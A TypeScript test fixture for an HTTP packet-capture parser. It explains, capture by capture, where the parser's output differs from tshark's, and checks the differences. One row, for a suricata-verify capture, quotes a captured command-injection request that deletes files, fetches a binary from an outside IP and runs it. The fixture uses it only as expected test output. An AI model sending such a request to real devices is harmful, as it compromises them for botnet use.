/**
 * Where this program and tshark differ on the public captures, and why. Each row was looked at packet by packet. A row
 * that does not hold exactly as written fails the test, also when its capture comes to agree.
 */

/** `tshark`: tshark is wrong, or means something else by its answer. `later`: needs a stage that is not built yet. */
export type Why = 'tshark' | 'later';

export interface Explained {
  readonly why: Why;
  readonly reason: string;
  /** Each difference, or for many of one kind how many and the shape that all of them have. */
  readonly differences: readonly string[] | { readonly count: number; readonly all: RegExp };
}

const UNSEEN = /^- /;

const later = (reason: string, count: number): Explained => ({
  why: 'later',
  reason,
  differences: { count, all: UNSEEN },
});

const tshark = (reason: string, differences: Explained['differences']): Explained => ({
  why: 'tshark',
  reason,
  differences,
});

const CAPTURED_OUT_OF_ORDER =
  'first_frame is the first packet captured with any piece of the message; its first byte came in a later one';

export const EXPLAINED: ReadonlyMap<string, Explained> = new Map([
  [
    'AlexeyVasilev+PcapFlowLab/examples__showcase__pcap_flow_lab_showcase.pcap',
    tshark(
      'the body before is one byte longer than its Content-Length, and tshark takes that byte and the next response ' +
        'for a continuation; the response begins its own packet',
      ['+ response 636 204', '+ pair 635 -> 636'],
    ),
  ],
  [
    'OISF+suricata-verify/bug-5437-02__input.pcap',
    tshark(
      'a target with a space in it, of which tshark shows the part before the space; 17 is 14 again, behind an ' +
        'address translation',
      [
        '+ request 14 GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm 127.0.0.1:80',
        '- request 14 GET /shell?cd+/tmp;rm+-rf+*;wget+ 127.0.0.1:80',
        '- request 17 GET /shell?cd+/tmp;rm+-rf+*;wget+ 127.0.0.1:80',
      ],
    ),
  ],
  [
    'OISF+suricata-verify/protocol-change-failed-event__input.pcap',
    tshark('SMTP; a line of it that looks like a response answers nothing', ['- response 8 101']),
  ],
  [
    'andrewf+pcap2har/pcapr.net.pcap',
    tshark(CAPTURED_OUT_OF_ORDER, [
      '- response 163 200',
      '+ response 204 200',
      '- pair 78 -> 163',
      '+ pair 78 -> 204',
    ]),
  ],
  [
    'brimdata+brimcap/alerts.pcap',
    tshark(CAPTURED_OUT_OF_ORDER, [
      '- response 981 200',
      '+ response 983 200',
      '- pair 959 -> 981',
      '+ pair 959 -> 983',
    ]),
  ],
  [
    'corelight+community-id-spec/pcaps__combined.pcap.gz',
    tshark('the same request; here it is told that the snapshot length cut its header', [
      '+ request 56 GET /images/sf.net_box.gif  (cut)',
      '- request 56 GET /images/sf.net_box.gif ',
    ]),
  ],
  [
    'gopacket+gopacket/le__test301.pcapng',
    tshark(
      'inside TLS the head of the response is in the records of 18 and 19, of which tshark names the second; it shows the ' +
        'same response once more where the chunked body ends',
      ['+ response 18 200', '- response 19 200', '- response 262 200', '+ pair 16 -> 18', '- pair 16 -> 19'],
    ),
  ],
  ['kbandla+dpkt/examples__data__nb6-http.pcap', later('PPP over L2TP', 3)],
  [
    'seladb+PcapPlusPlus/Pcap++Test__PcapExamples__4KHttpRequests.pcap',
    tshark('requests whose header the capture never completes: tshark shows none of them', {
      count: 108,
      all: /^\+ request \d+ (GET|POST) \S+ \S* ?\(cut\)$/,
    }),
  ],
  [
    'six-ddc+httpflow/httpbin-retransmission.pcap',
    tshark(CAPTURED_OUT_OF_ORDER, [
      '- response 341 200',
      '+ response 342 200',
      '- response 349 200',
      '+ response 695 200',
      '- pair 134 -> 349',
      '+ pair 134 -> 695',
      '- pair 150 -> 341',
      '+ pair 150 -> 342',
    ]),
  ],
  [
    'snappyflow+beats/http_unmatched.pcap',
    tshark(
      'a response before any request answers nothing: it is the anomaly unsolicited_response of the request after it',
      ['- response 12 404'],
    ),
  ],
  [
    'zeek+zeek/http__methods.pcap',
    tshark(
      'the method without a target, and with the version for one (14); a simple request of HTTP/0.9, after which ' +
        'nothing follows (172); lines that are no request but were answered as one (34, 329)',
      [
        '+ request 14 OPTIONS  www.google.com',
        '- request 14 OPTIONS HTTP/1.1 www.google.com',
        '+ request 172 GET /HTTP/1.1 ',
        '- request 172 GET /HTTP/1.1 www.google.com',
        '- request 329 CCM_POST /HTTP/1.1 www.google.com',
        '- request 34 OPTIONS  www.google.com',
        '- pair 329 -> 331',
        '- pair 34 -> 36',
      ],
    ),
  ],
  ['zeek+zeek/tunnels__Teredo.pcap', later('Teredo', 6)],
  ['zeek+zeek/tunnels__gre-aruba.pcap', later('GRE with 802.11', 52)],
  ['zeek+zeek/tunnels__gtp__gtp1_gn_normal_incl_fragmentation.pcap', later('GTP', 3)],
]);

/** Whether the differences are exactly those of the row. */
export function holds({ differences: expected }: Explained, found: readonly string[]): boolean {
  if ('count' in expected) {
    return found.length === expected.count && found.every((difference) => expected.all.test(difference));
  }
  return `${[...found].sort()}` === `${[...expected].sort()}`;
}
